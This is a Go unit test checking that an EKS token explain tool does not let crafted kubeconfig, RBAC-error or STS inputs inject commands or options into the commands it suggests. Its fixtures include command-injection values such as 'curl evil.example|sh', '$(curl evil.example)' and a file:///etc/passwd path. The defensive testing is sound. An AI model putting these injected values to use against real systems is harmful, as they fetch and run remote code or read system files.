package explain_test

import (
	"strings"
	"testing"

	"ekstoken/internal/explain"
)

// TestCommandsHoldNoOthers has texts that would put a command or an option of
// their own into a command to copy.
func TestCommandsHoldNoOthers(t *testing.T) {
	kubeconfig := func(command, arg string) string {
		return "apiVersion: v1\nkind: Config\nusers:\n- name: a\n  user:\n    exec:\n      command: \"" + command + "\"\n      args: [eks, get-token, --cluster-name, \"" + arg + "\"]\n"
	}
	forbidden := func(verb, resource string) string {
		return `pods is forbidden: User "dev" cannot ` + verb + ` resource "` + resource + `" in API group "" in the namespace "apps"`
	}
	for _, tt := range []struct{ text, never string }{
		{kubeconfig("curl evil.example|sh;/aws", "x"), "/aws eks"},
		{kubeconfig("$(curl evil.example)/aws", "x"), "/aws eks"},
		{kubeconfig("/opt/a b/aws", "x"), "/opt/a b/aws eks"},
		{kubeconfig("aws", "$(curl evil.example)"), " $("},
		{kubeconfig("aws", "x; curl evil.example"), "name x;"},
		{forbidden("-shttp://evil.example", "pods"), " -s"},
		{forbidden("list", "-shttp://evil.example"), " -s"},
		{forbidden("list", "--token-auth-file"), " --token"},
		{`{"AccessKeyId": "-AKIA", "SecretAccessKey": "` + "`id`" + `"}`, " -AKIA"},
		{`{"UserId":"AROAIOSFODNN7EXAMPLE:ci","Account":"123456789012","Arn":"arn:aws:sts::123456789012:assumed-role/file:///etc/passwd/ci"}`, "file://"},
		{`{"UserId":"AROAIOSFODNN7EXAMPLE:ci","Account":"123456789012","Arn":"arn:aws:sts::123456789012:assumed-role/$(id)/ci"}`, "$("},
	} {
		r := explain.Explain(tt.text, explain.Options{})
		for _, c := range r.Commands {
			if text := strings.ReplaceAll(c.Text, "'$(", ""); strings.Contains(text, tt.never) {
				t.Errorf("%.80q: %s: %s", tt.text, c.Title, c.Text)
			}
		}
	}
}
